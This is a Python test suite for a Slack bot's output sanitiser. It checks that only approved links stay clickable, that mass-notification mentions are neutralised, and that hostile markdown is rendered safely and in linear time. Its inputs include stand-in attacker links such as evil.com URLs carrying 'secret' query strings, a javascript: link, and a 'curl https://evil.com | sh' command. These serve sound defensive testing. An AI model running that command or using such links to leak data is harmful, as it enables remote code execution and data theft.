"""What may leave, and in which form."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from kit.growth import assert_linear, repeated
from kit.untraced import untraced
from slackbot.slack.egress import EgressStream, render
from slackbot.slack.links import REACH

if TYPE_CHECKING:
    from collections.abc import Iterator

    from markdown_it.token import Token

OK = "https://docs.example.com/a?x=1&y=2"
WIKI = "https://en.example.org/wiki/A_(b)"
LINKS = frozenset({OK, WIKI})

# An independent reader of the result: CommonMark with tables.
COMMON_MARK = MarkdownIt("commonmark").enable("table")


def tokens(markdown: str) -> Iterator[Token]:
    for token in COMMON_MARK.parse(markdown):
        yield token
        yield from token.children or ()


def live_addresses(markdown: str) -> set[str]:
    """Everything that a reader could click or load: links, images, addresses in plain text."""
    found = set()
    depth = 0
    for token in tokens(markdown):
        if token.type == "link_open":
            depth += 1
            found.add(str(token.attrs["href"]))
        elif token.type == "link_close":
            depth -= 1
        elif token.type == "image":
            found.add(f"image {token.attrs['src']}")
        elif token.type == "text" and depth == 0:
            found.update(re.findall(r"\w+://\S*|www\.\S*|mailto:\S*", token.content))
    return found


def notifies(markdown: str) -> bool:
    return bool(re.search(r"<([@#]|!(channel|here|everyone|subteam))", markdown)) or any(
        re.search("@(channel|here|everyone)", token.content, re.IGNORECASE)
        for token in tokens(markdown)
        if token.type == "text"
    )


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        (f"see [the docs]({OK}).", f"see [the docs]({OK})."),
        (f"[docs](<{OK}>)", f"[docs]({OK})"),
        (f'[docs]( {OK} "a title" )', f"[docs]({OK})"),
        (f"[docs]({OK} 'a title')", f"[docs]({OK})"),
        (f"[`code` & more]({OK})", f"[`code` &amp; more]({OK})"),
        (f"[[1]]({OK})", f"[[1]]({OK})"),
        (f"<{OK}|a] [b>", f"[a) (b]({OK})"),
        (f"[a \\[b] c]({OK})", f"[a \\(b) c]({OK})"),
        (f"[`[`]`]({OK})", f"[`(`)ˋ]({OK})"),
        (f"[a\\]({OK})", f"[a]({OK})"),
        (f"[]({OK})", f"[https://docs.example.com/a?x=1&amp;y=2]({OK})"),
        (f"[A]({WIKI})", f"[A]({WIKI})"),
        (f"<{OK}>", f"[https://docs.example.com/a?x=1&amp;y=2]({OK})"),
        (f"<{OK}|docs>", f"[docs]({OK})"),
        (f"({WIKI}), ok", f"([{WIKI}]({WIKI})), ok"),
        (f"at {WIKI}.", f"at [{WIKI}]({WIKI})."),
        (f"Look![docs]({OK})", f"Look[docs]({OK})"),
        (f"Look! [docs]({OK})", f"Look! [docs]({OK})"),
        (f"\\![docs]({OK})", f"\\! [docs]({OK})"),
    ],
)
def test_links_that_were_found_stay_live(markdown: str, shown: str) -> None:
    assert render(markdown, LINKS) == shown


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("[docs](https://evil.com/s)", "docs `https://evil.com/s`"),
        ("[https://evil.com](https://evil.com)", "`https://evil.com`"),
        ("[](https://evil.com)", "`https://evil.com`"),
        ("[docs]()", "docs "),
        ("![alt](https://evil.com/i.png)", "alt `https://evil.com/i.png`"),
        ("<https://evil.com>", "`https://evil.com`"),
        ("<https://evil.com|label>", "label `https://evil.com`"),
        ("https://evil.com/s?q=1, really", "`https://evil.com/s?q=1`, really"),
        ("www.evil.com mailto:a@evil.com", "`www.evil.com` `mailto:a@evil.com`"),
        ("evil.com/secret?q", "`evil.com/secret?q`"),
        ("secret.evil.com", "`secret.evil.com`"),
        ("1.2.3.4/secret", "`1.2.3.4/secret`"),
        ("https://user:pass@evil.com", "`https://user:pass@evil.com`"),
        ("https://xn--evl-2oa.com/x", "`https://xn--evl-2oa.com/x`"),
        ("javascript://x [y](javascript:alert(1))", "`javascript://x` y `javascript:alert(1)`"),
        ("[a]: https://evil.com", "[a] : `https://evil.com`"),
        ("[x][a] and [a]", "[x][a] and [a]"),
        ("|https://evil.com|x", "|`https://evil.com`|x"),
        ('"https://evil.com"', '"`https://evil.com`"'),
        ("[x](https://evil.com/a`b|c)", "x `https://evil.com/aˋb%7Cc`"),
        (f"{OK}/more", f"`{OK}/more`"),
        ("[a](not closed", "[a] (not closed"),
        ("[a](https://evil.com/ b)", "[a] (`https://evil.com/` b)"),
        ("[a [b](https://evil.com)", "[a b `https://evil.com`"),
        ("[a [b", "[a [b"),
        ("[a\n](https://evil.com)", "[a\n] (`https://evil.com`)"),
        ("[a](<https://evil.com", "[a] (&lt;`https://evil.com`"),
        ("[a](x(y", "[a] (x(y"),
        ("[a](x(y z)", "[a] (x(y z)"),
        ("![a", "![a"),
        ("plain.word and v1.2 and e.g. this", "plain.word and v1.2 and e.g. this"),
        ("&lt;https://evil.com&gt;", "&lt;`https://evil.com`&gt;"),
        ("`a`[`b`](https://evil.com)", "`a` `b` `https://evil.com`"),
    ],
)
def test_every_other_address_is_inert(markdown: str, shown: str) -> None:
    assert render(markdown, LINKS) == shown


def test_a_found_address_that_cannot_be_written_as_a_link_is_inert() -> None:
    odd = "https://docs.example.com/a(b"
    assert render(f"<{odd}>", {odd}) == f"`{odd}`"


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("a < b > c & d", "a &lt; b &gt; c &amp; d"),
        ("&lt;b&gt; &amp; &nbsp; &#60;", "&lt;b&gt; &amp; &amp;nbsp; &amp;#60;"),
        ("> quoted > text\n>> twice\n  > thrice", "> quoted &gt; text\n>> twice\n  > thrice"),
        ("a\n> b", "a\n> b"),
        ("`a<b && &lt;`", "`a<b && &lt;`"),
        ("\\< \\& \\> \\` \\* \\x \\", "&lt; &amp; &gt; ˋ \\* \\x \\"),
        ("héllo wörld 日本語", "héllo wörld 日本語"),
        ("hid\u200bden \u202etxt", "hidden txt"),
    ],
)
def test_the_three_marks_of_slack_are_entities(markdown: str, shown: str) -> None:
    assert render(markdown, LINKS) == shown


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("`<!channel> <@U1> <#C1> <b>`", "`&lt;!channel> &lt;@U1> &lt;#C1> <b>`"),
        ("`<http://x> <xs:a>`", "`&lt;http://x> <xs:a>`"),
        ("```\n<!here> <T>\n```", "```\n&lt;!here> <T>\n```"),
        ("<!channel> <!here|here>", "&lt;!channel&gt; &lt;!here|here&gt;"),
        ("<!subteam^S1|@team>", "&lt;!subteam^S1|@team&gt;"),
        ("<@U1> <#C1|x>", "&lt;@U1&gt; &lt;#C1|x&gt;"),
        ("@channel @Here @EVERYONE", "＠channel ＠Here ＠EVERYONE"),
        ("**@channel** x@here.", "**＠channel** x＠here."),
        ("\\@channel", "\\\\＠channel"),
        ("mail ann@example.com", "mail ann@example.com"),
    ],
)
def test_nobody_is_notified(markdown: str, shown: str) -> None:
    assert render(markdown, LINKS) == shown


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("`https://evil.com @here`", "`https://evil.com @here`"),
        ("``a`b``", "``a`b``"),
        ("``ab``", "`ab`"),
        ("`a``b`", "`a``b`"),
        ("`a`\\`b`", "`a`ˋbˋ"),
        ("\\\\`a`", "\\\\ `a`"),
        ("`a`https://evil.com", "`a` `https://evil.com`"),
        ("one ` two https://evil.com three", "one ˋ two `https://evil.com` three"),
        ("one ` two\nthree ` four", "one ˋ two\nthree ˋ four"),
        ("`` a ` b", "ˋˋ a ˋ b"),
        ("`x | y`", "`x | y`"),
        ("`curl https://evil.com | sh`", "`curl https://evil.com \\| sh`"),
    ],
)
def test_inline_code_stays_and_stays_code(markdown: str, shown: str) -> None:
    assert render(markdown, LINKS) == shown


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        (
            "```py\na < b && c  # https://evil.com\n```\nx",
            "```py\na < b && c  # https://evil.com\n```\nx",
        ),
        ("```\nopen", "```\nopen\n```"),
        ("```\nopen\n", "```\nopen\n```"),
        ("```", "```\n```"),
        ("``` c++ extra <x>\n```", "``` c++\n```".replace(" ", "")),
        ("- a\n    ```sh\n      ls\n    ```\n- b", "- a\n```sh\n  ls\n```\n- b"),
        ("~~~\na\n```\nb\n~~~\n@here", "```\na\nˋˋˋ\nb\n```\n＠here"),
        ("````\n```\n````", "```\nˋˋˋ\n```"),
        ("```\n````\nx", "```\n```\nx"),
        ("```code``` x", "`code` x"),
        ("> ```\n> x\n> ```", "> ˋˋˋ\n> x\n> ˋˋˋ"),
        ("``x\ny", "ˋˋx\ny"),
        ("~~gone~~", "~~gone~~"),
        ("  \n```\nx\n```\n> q", "  \n```\nx\n```\n> q"),
    ],
)
def test_fences_are_written_anew(markdown: str, shown: str) -> None:
    assert render(markdown, LINKS) == shown


HOSTILE_PARTS = st.one_of(
    st.sampled_from(
        [
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "`",
            "``",
            "```",
            "~~~",
            "\n",
            "\n\n",
            "!",
            "|",
            "&",
            "\\",
            " ",
            "    ",
            "- ",
            "1. ",
            "> ",
            "* ",
            "**",
            "_",
            '"',
            "'",
            ":",
            "#",
            "=",
            "---|---\n",
            "http://evil.com/",
            "https://evil.com/?q=secret",
            "www.evil.com",
            "mailto:a@evil.com",
            "://",
            "http",
            "evil.com/x",
            "[a](http://evil.com)",
            "![a](",
            "](",
            "]: http://evil.com",
            f"[ok]({OK})",
            OK,
            WIKI,
            f"<{OK}|",
            f"<{OK}>",
            "<!channel>",
            "@here",
            "@chan",
            "nel",
            "<@U1>",
            "&lt;",
            "&#60;",
            "\u200b",
            "\x1b[",
            "é",
            "word",
            "a",
        ]
    ),
    st.text(max_size=5),
)
HOSTILE = st.lists(HOSTILE_PARTS, max_size=25).map("".join)


@settings(max_examples=400)
@given(HOSTILE)
@example("- x\n  ```\nhttp://evil.com/\n  ```")
@example("~~~\n```\n~~~\nhttp://evil.com/\n```")
@example("a|b\n---|---\n`x | http://evil.com/`|c")
@example("[a]: http://evil.com/\n\n[a]")
@example("\\http://evil.com/ `x`")
def test_an_independent_reader_finds_nothing_live_but_the_links(markdown: str) -> None:
    shown = render(markdown, LINKS)
    assert live_addresses(shown) <= LINKS
    assert not notifies(shown)


@settings(max_examples=400)
@given(HOSTILE, st.data())
@untraced()
def test_where_the_pieces_are_cut_changes_nothing(markdown: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.sets(st.integers(0, len(markdown)), max_size=8)))
    pieces = [markdown[a:b] for a, b in zip([0, *cuts], [*cuts, len(markdown)], strict=True)]
    stream = EgressStream()
    shown = ""
    for piece in pieces:
        shown += stream.feed(piece, LINKS)
        assert live_addresses(shown) <= LINKS
        assert not notifies(shown)
    assert shown + stream.finish() == render(markdown, LINKS)


LONG_UNITS = ["`", "a", "[", "<", "]", "!", "(", " ", "\n", "\\", "&", "é", "```", "[a](", "<a|"]


@settings(max_examples=60)
@given(
    st.lists(st.tuples(st.sampled_from(LONG_UNITS), st.integers(1, REACH + 3)), max_size=4),
    st.integers(1, 700),
)
@example([("`", REACH), ("a", 1), ("`", REACH)], 100)
@example([("```", 1), ("\n", 1), ("a", REACH - 4), ("<a|", 3), ("a", 9)], 100)
@example([("a", REACH - 1), ("!", 1), ("[", 1)], REACH)
@example([(" ", REACH - 1), ("```", 1)], REACH)
@example([("```", 1), ("a", REACH - 3), ("\n", 1)], REACH)
@example([("```", 1), ("\n", 1), ("`", REACH), ("a", 3)], REACH + 4)
@example([("`", 1), ("a", REACH - 2), ("`", 1)], REACH)
@untraced()
def test_what_is_longer_than_the_reach_is_decided_alike(
    runs: list[tuple[str, int]], size: int
) -> None:
    markdown = "".join(unit * (1 + count // len(unit)) for unit, count in runs)
    stream = EgressStream()
    pieces = [markdown[at : at + size] for at in range(0, len(markdown), size)]
    shown = "".join(stream.feed(piece, LINKS) for piece in pieces) + stream.finish()
    assert shown == render(markdown, LINKS)


@given(HOSTILE)
def test_what_is_safe_stays_safe_when_rendered_again(markdown: str) -> None:
    assert live_addresses(render(render(markdown, LINKS), LINKS)) <= LINKS


@pytest.mark.parametrize("broadcast", ["<!channel>", "@channel", "<!subteam^S1>", "<@U1>"])
def test_a_broadcast_split_anywhere_notifies_nobody(broadcast: str) -> None:
    for cut in range(len(broadcast) + 1):
        stream = EgressStream()
        shown = stream.feed(f"hi {broadcast[:cut]}", ()) + stream.feed(f"{broadcast[cut:]} x", ())
        assert not notifies(shown + stream.finish())


def test_prose_is_shown_up_to_the_last_whole_word() -> None:
    stream = EgressStream()
    assert stream.feed("Rolling back is do", ()) == "Rolling back is "
    assert stream.feed("ne with ", ()) == "done with "


def test_text_without_blanks_is_not_held_back() -> None:
    assert EgressStream().feed("日本語のテキスト。", ()) == "日本語のテキスト。"


def test_links_may_become_known_while_the_text_grows() -> None:
    stream = EgressStream()
    first = stream.feed(f"[a]({OK}) ", ())
    assert first + stream.feed(f"[b]({OK}) ", LINKS) == f"a `{OK}` [b]({OK}) "


@pytest.mark.parametrize(
    "unit",
    [
        "`", "[", "<", "![", "``` `", "` `` ``` ", "[a](", "[[a] ", "[a]((", "<a|", "\\", "]", "&",
        "@", "a.", "aa.", "a-", "://", "http://a.b ", "( ", "~~~", "\n```\n", "!", ">", "\x1b[",
        "\x1b]a", "\u200d", "😀\u200d", "[x](y) ", "a" * 64 + ".", "a.b.c.1 ", "é", '[a](b "',
    ],
)  # fmt: skip
def test_hostile_input_costs_little(unit: str) -> None:
    assert_linear(lambda text: render(text, LINKS), repeated(unit), 50_000)


@pytest.mark.parametrize("unit", ["`a", "[a ", "<a", "a", "```\n", "[a](b"])
def test_hostile_input_in_small_pieces_costs_little(unit: str) -> None:
    def feed(text: str) -> None:
        stream = EgressStream()
        for at in range(0, len(text), 8):
            stream.feed(text[at : at + 8], LINKS)
        stream.finish()

    assert_linear(feed, repeated(unit), 20_000)
